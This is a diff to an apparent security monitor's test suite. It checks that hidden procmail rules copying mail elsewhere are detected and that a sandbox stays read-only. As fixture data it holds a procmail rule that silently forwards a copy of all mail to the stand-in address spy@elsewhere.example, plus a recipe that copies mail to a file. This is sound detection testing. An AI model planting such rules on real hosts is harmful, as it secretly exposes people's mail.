@@ -106,3 +106,16 @@ def test_an_etc_procmailrc_copy_rule_is_caught(tmp_path, keys):
     host.etc_extra["procmailrc"] = ":0 c\n! spy@elsewhere.example\n"
     problems = _problems(host)
     assert any("spy@elsewhere.example" in p["message"] for p in problems), problems
+
+
+def test_a_recipe_that_writes_into_the_home_changes_nothing(tmp_path, keys):
+    """Even where the ossec user may write its home, the sandbox holds it read-only: a recipe
+    delivering a copy to a file there writes nothing on the host."""
+    home, admin, _ = keys
+    host = MonitorHost(tmp_path, admin, _export(home, admin))
+    host.ossec.chmod(0o770)  # writable by the ossec group
+    rc = host.ossec / ".procmailrc"
+    rc.write_text(rc.read_text().replace(":0 E", ":0 c\n/var/ossec/copy.mbox\n\n:0 E", 1))
+    before = sorted(p.name for p in host.ossec.iterdir())
+    assert _findings(host)
+    assert sorted(p.name for p in host.ossec.iterdir()) == before and not (host.ossec / "copy.mbox").exists()
